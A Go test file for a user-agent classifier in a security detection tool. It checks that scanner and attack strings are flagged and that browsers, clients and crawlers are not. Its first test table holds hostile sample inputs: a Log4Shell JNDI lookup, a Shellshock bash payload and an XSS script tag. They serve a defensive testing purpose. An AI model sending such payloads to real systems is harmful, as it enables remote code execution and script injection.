package detect

import (
	"bufio"
	"compress/gzip"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/palisade-sec/palisade/internal/testutil"
)

func TestClassifyUserAgent(t *testing.T) {
	tests := []struct{ ua, class string }{
		{"sqlmap/1.8.2#stable (https://sqlmap.org)", UAAttack},
		{"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", UAAttack},
		{"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", UAAttack},
		{"${jndi:ldap://x.test/a}", UAAttack},
		{"() { :; }; /bin/bash -c 'id'", UAAttack},
		{"Mozilla/5.0 <script>alert(1)</script>", UAAttack},
		{"Mozlila/5.0 (Windows NT 10.0)", UAAttack},
		{"curl/8.5.0", UAClient},
		{"python-requests/2.32.3", UAClient},
		{"Go-http-client/2.0", UAClient},
		{"Wget/1.21.4", UAClient},
		{"PostmanRuntime/7.39.0", UAClient},
		{"okhttp/4.12.0", UAClient},
		{"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", UABot},
		{"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", UABot},
		{"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15", UABrowser},
		{"VeganRecipes/1.0", UAOther}, // "vega" glued to letters is not the scanner
		{"", UAEmpty},
	}
	for _, tc := range tests {
		if v := ClassifyUserAgent(tc.ua); v.Class != tc.class {
			t.Errorf("ClassifyUserAgent(%q) = %+v, want %s", tc.ua, v, tc.class)
		}
	}
}

func TestUserAgentObserve(t *testing.T) {
	em := NewEmitter()
	d := NewUserAgent(Config{})
	d.Observe(sigEvent(t, "GET", "https://api.example.test/v1/x", map[string]string{"user-agent": "sqlmap/1.7 (token=abcdefgh)"}, "", 404), em)
	d.Observe(sigEvent(t, "GET", "https://api.example.test/v1/x", map[string]string{"user-agent": "curl/8.0"}, "", 200), em)
	as := em.Alerts()
	if len(as) != 1 || as[0].Type != "intel.suspicious_user_agent" || !strings.Contains(as[0].Evidence.Reason, "sqlmap") {
		t.Fatalf("alerts %+v", as)
	}
	if strings.Contains(as[0].Evidence.Details["fragment"].(string), "abcdefgh") {
		t.Errorf("token not redacted: %v", as[0].Evidence.Details)
	}
}

// TestUserAgentEvalData measures the classification on the evaluation
// lists: CRS scanner tokens must be attacks, popular browser and client
// agents must not, crawler instances must be bots rather than attacks.
func TestUserAgentEvalData(t *testing.T) {
	dir := testutil.EvalDir(t, "threatintel", "useragents")
	lines := func(name string) []string {
		f, err := os.Open(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		var out []string
		sc := bufio.NewScanner(f)
		for sc.Scan() {
			l := strings.TrimSpace(sc.Text())
			if l != "" && !strings.HasPrefix(l, "#") {
				out = append(out, l)
			}
		}
		return out
	}
	rate := func(uas []string, class string) (float64, []string) {
		n := 0
		var bad []string
		for _, ua := range uas {
			if ClassifyUserAgent(ua).Class == class {
				n++
			} else if len(bad) < 5 {
				bad = append(bad, ua)
			}
		}
		return float64(n) / float64(len(uas)), bad
	}
	scanners := lines("crs-scanners-user-agents.data")
	if r, missed := rate(scanners, UAAttack); r < 0.9 {
		t.Errorf("CRS scanner tokens: %.1f%% flagged (< 90%%), missed e.g. %q", 100*r, missed)
	} else {
		t.Logf("CRS scanner tokens flagged: %.1f%% of %d", 100*r, len(scanners))
	}
	var benign []string
	benign = append(benign, lines("crs-popularUAs.data")...)
	for _, name := range []string{"top-user-agents-desktop.json", "top-user-agents-mobile.json"} {
		raw, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		var l []string
		if err := json.Unmarshal(raw, &l); err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		benign = append(benign, l...)
	}
	gz, err := os.Open(filepath.Join(dir, "intoli-user-agents.json.gz"))
	if err != nil {
		t.Fatal(err)
	}
	zr, err := gzip.NewReader(gz)
	if err != nil {
		t.Fatal(err)
	}
	var intoli []struct {
		UserAgent string `json:"userAgent"`
	}
	if err := json.NewDecoder(zr).Decode(&intoli); err != nil {
		t.Fatalf("intoli: %v", err)
	}
	gz.Close()
	for _, x := range intoli {
		benign = append(benign, x.UserAgent)
	}
	fp := 0
	var fps []string
	for _, ua := range benign {
		if v := ClassifyUserAgent(ua); v.Class == UAAttack {
			fp++
			if len(fps) < 10 {
				fps = append(fps, ua+" ("+v.Reason+")")
			}
		}
	}
	if r := float64(fp) / float64(len(benign)); r > 0.001 {
		t.Errorf("benign agents flagged: %d of %d (%.3f%%), e.g. %q", fp, len(benign), 100*r, fps)
	} else {
		t.Logf("benign agents flagged: %d of %d", fp, len(benign))
	}
	raw, err := os.ReadFile(filepath.Join(dir, "crawler-user-agents.json"))
	if err != nil {
		t.Fatal(err)
	}
	var crawlers []struct {
		Instances []string `json:"instances"`
	}
	if err := json.Unmarshal(raw, &crawlers); err != nil {
		t.Fatal(err)
	}
	var inst []string
	for _, c := range crawlers {
		inst = append(inst, c.Instances...)
	}
	attack, bot, client := 0, 0, 0
	var atk []string
	for _, ua := range inst {
		switch v := ClassifyUserAgent(ua); v.Class {
		case UAAttack:
			attack++
			if len(atk) < 8 {
				atk = append(atk, ua+" ("+v.Reason+")")
			}
		case UABot:
			bot++
		case UAClient:
			client++
		}
	}
	t.Logf("crawler instances: %d, bot %d (%.1f%%), client %d, attack %d, e.g. %q", len(inst), bot, 100*float64(bot)/float64(len(inst)), client, attack, atk)
	if float64(bot+client)/float64(len(inst)) < 0.80 {
		t.Errorf("crawler instances classified as bots or clients: %d of %d (< 80%%)", bot+client, len(inst))
	}
	if float64(attack)/float64(len(inst)) > 0.03 {
		t.Errorf("crawler instances classified as attacks: %d of %d, e.g. %q", attack, len(inst), atk)
	}
}
